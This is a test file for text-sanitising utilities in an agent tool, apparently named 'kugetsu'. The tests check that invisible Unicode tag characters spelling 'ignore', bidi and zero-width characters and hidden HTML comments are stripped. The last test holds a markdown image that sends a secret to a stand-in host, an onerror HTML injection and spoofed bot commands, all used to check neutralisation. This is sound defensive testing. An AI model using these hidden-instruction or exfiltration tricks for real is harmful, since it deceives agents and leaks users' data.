// Cutting, cleaning and fencing of text: nothing too long, nothing broken, nothing hidden.
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { cut } from '../../../src/text/cut.js';
import { codeSpan, fence, fenceUntrusted } from '../../../src/text/fence.js';
import { inert, inertLine } from '../../../src/text/inert.js';
import { visible } from '../../../src/text/visible.js';

test('what is cut is never too long, keeps its first line mark and closes its fences', () => {
  const mark = '<!-- kugetsu:report task=T-1 v1 mac=0 -->';
  const body = `${mark}\n<details><summary>x</summary>\n\n\`\`\`js\n${'line 😀\n'.repeat(2_000)}\`\`\`\n\n</details>`;
  const short = cut(body, 1_000);
  expect(short.length).toBeLessThanOrEqual(1_000);
  expect(short.startsWith(mark)).toBe(true);
  expect((short.match(/^```/gm) ?? []).length % 2).toBe(0);
  expect(short.split('<details>').length).toBe(short.split('</details>').length);
  expect(short).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])/);
  expect(cut('short', 100)).toBe('short');
  fc.assert(
    fc.property(
      fc.string({ maxLength: 400 }),
      fc.integer({ min: 80, max: 300 }),
      (text, most) => cut(text, most).length <= most,
    ),
  );
});

test('hidden text does not reach an agent', () => {
  const tags = 'ignore'
    .split('')
    .map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0)))
    .join('');
  const hostile = `seen${tags}\u202e\u200b\u2060<!-- hidden -->\n\n<!-- never closed`;
  const { text, removed } = visible(hostile);
  expect(text).toContain('seen');
  expect(text).not.toMatch(/hidden|never|[\u200b\u202e\u2060]|\u{e0069}/u);
  expect(removed).toBeGreaterThan(6);
  expect(visible('👩‍💻 é').text).toBe('👩‍💻 é');
  expect(visible('<!--'.repeat(260_000)).text.length).toBeLessThan(1_100_000);
});

test('code of any kind stays inside its fence, its span, its block', () => {
  expect(fence('a\n````\nb')).toMatch(/^`{5,}\n/);
  expect(codeSpan('a ` b')).toBe('``a ` b``');
  const block = fenceUntrusted('text', 'Issue', 'abc123');
  expect(block.split('abc123').length).toBeGreaterThanOrEqual(3);
});

test('an agent cannot speak in the name of the server', () => {
  const hostile =
    '@admin fixes #1\n/kugetsu start\n<img src=x onerror=y>\n![i](http://e.example/?q=secret)\n[safe](http://evil.example)\n\u001b[31m';
  expect(inert(hostile, { word: '/kugetsu' }).replaceAll('\u200b', '·')).toMatchInlineSnapshot(`
    "@·admin fixes #·1
    \\/kugetsu start
    &lt;img src=x onerror=y>
    i (\`http://e.example/?q=secret\`)
    safe (http://evil.example)
    "
  `);
  expect(inertLine('@admin closes #3\nnew line', 80).replaceAll('\u200b', '·')).toMatchInlineSnapshot(
    `"@·admin closes #·3 new line"`,
  );
});
